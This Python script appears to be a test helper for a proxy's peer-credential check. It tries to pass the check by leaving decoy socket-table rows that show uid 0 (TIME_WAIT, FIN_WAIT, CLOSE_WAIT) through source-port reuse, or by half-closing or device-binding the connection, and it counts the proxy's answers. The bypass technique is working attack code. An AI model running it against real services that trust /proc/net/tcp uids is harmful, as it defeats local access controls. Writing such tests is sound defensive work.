#!/usr/bin/env python3
# An attacker who is neither root nor the allowed user tries to pass the proxy's peer check with a socket table
# row that is not its connection (PeerChecksIT runs it as such a user). Each try binds a source port P with
# SO_REUSEADDR, leaves a decoy row for P (a connection from P to a listener of its own, left in some state),
# binds P again, connects to the proxy and sends the request at once.
#
#   peer-attack.py MODE PROXY_HOST PROXY_PORT TRIES SOURCE REQUEST_FILE
#
# MODE: time-wait    the decoy connection closed by us first: a TIME_WAIT row, which shows uid 0
#       fin-wait     the decoy closed by us while the other end holds it open: FIN_WAIT1/2, shown as uid 0
#       close-wait   the decoy closed by the other end while we hold it open: CLOSE_WAIT
#       half-close   no decoy: our own connection is shut for writing right after the request
#       bound-device no decoy: our own connection is bound to the device lo (SO_BINDTODEVICE)
# SOURCE is the address bound (127.0.0.1, ::1, ::ffff:127.0.0.1, ...). Prints one JSON object: how many tries
# were answered with each HTTP status, how many were closed without an answer ("refused"), what else happened,
# and how many decoy rows were seen in /proc/net/tcp{,6} (with their uids) before the proxy was called.
import json
import socket
import sys

STATES = {'time-wait': ('06',), 'fin-wait': ('04', '05'), 'close-wait': ('08',)}  # FIN_WAIT1 until our FIN is acked


def family_of(address):
    return socket.AF_INET6 if ':' in address else socket.AF_INET


def proc_hex(address, port):
    family = family_of(address)
    raw = socket.inet_pton(family, address)
    words = [raw[i:i + 4][::-1].hex().upper() for i in range(0, len(raw), 4)]
    return ''.join(words) + ':%04X' % port


def decoy_uids(source, port, decoy_port, states):
    """The uids of rows for the decoy connection in the wanted states (empty if the kernel shows none)."""
    local, remote = proc_hex(source, port), proc_hex(source, decoy_port)
    uids = []
    for table in ('/proc/net/tcp', '/proc/net/tcp6'):
        with open(table) as lines:
            next(lines)
            for line in lines:
                fields = line.split()
                if fields[1] == local and fields[2] == remote and fields[3] in states:
                    uids.append(int(fields[7]))
    return uids


def reusable_socket(source):
    s = socket.socket(family_of(source), socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s


def main():
    mode, proxy_host, proxy_port, tries, source, request_file = sys.argv[1:7]
    proxy = (proxy_host, int(proxy_port))
    tries = int(tries)
    with open(request_file, 'rb') as f:
        request = f.read()
    decoy = reusable_socket(source)
    decoy.bind((source, 0))
    decoy.listen(128)
    decoy_port = decoy.getsockname()[1]
    held = []  # decoy sockets that must stay open for their state
    outcome = {'tries': tries, 'refused': 0, 'statuses': {}, 'errors': {}, 'decoys_seen': 0, 'decoy_uids': {}}
    for _ in range(tries):
        try:
            port = 0
            if mode in STATES:
                first = reusable_socket(source)
                first.bind((source, 0))
                port = first.getsockname()[1]
                first.connect((source, decoy_port))
                other_end, _ = decoy.accept()
                if mode == 'time-wait':
                    first.close()
                    other_end.close()
                elif mode == 'fin-wait':
                    first.close()
                    held.append(other_end)
                else:
                    other_end.close()
                    held.append(first)
                uids = decoy_uids(source, port, decoy_port, STATES[mode])
                if uids:
                    outcome['decoys_seen'] += 1
                for uid in uids:
                    outcome['decoy_uids'][str(uid)] = outcome['decoy_uids'].get(str(uid), 0) + 1
            attempt = reusable_socket(source)
            if mode == 'bound-device':
                attempt.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'lo')
            attempt.settimeout(20)
            attempt.bind((source, port))
            attempt.connect(proxy)
            attempt.sendall(request)
            if mode == 'half-close':
                try:
                    attempt.shutdown(socket.SHUT_WR)
                except OSError:
                    pass  # the proxy was quicker and closed the connection already
            try:
                answer = attempt.recv(64)
            except ConnectionResetError:
                answer = b''
            attempt.close()
            if answer == b'':
                outcome['refused'] += 1
            else:
                status = answer.split(b' ')[1].decode() if answer.startswith(b'HTTP/') else 'not-http'
                outcome['statuses'][status] = outcome['statuses'].get(status, 0) + 1
        except OSError as e:
            name = type(e).__name__ + (':' + str(e.errno) if e.errno else '')
            outcome['errors'][name] = outcome['errors'].get(name, 0) + 1
    print(json.dumps(outcome))


main()
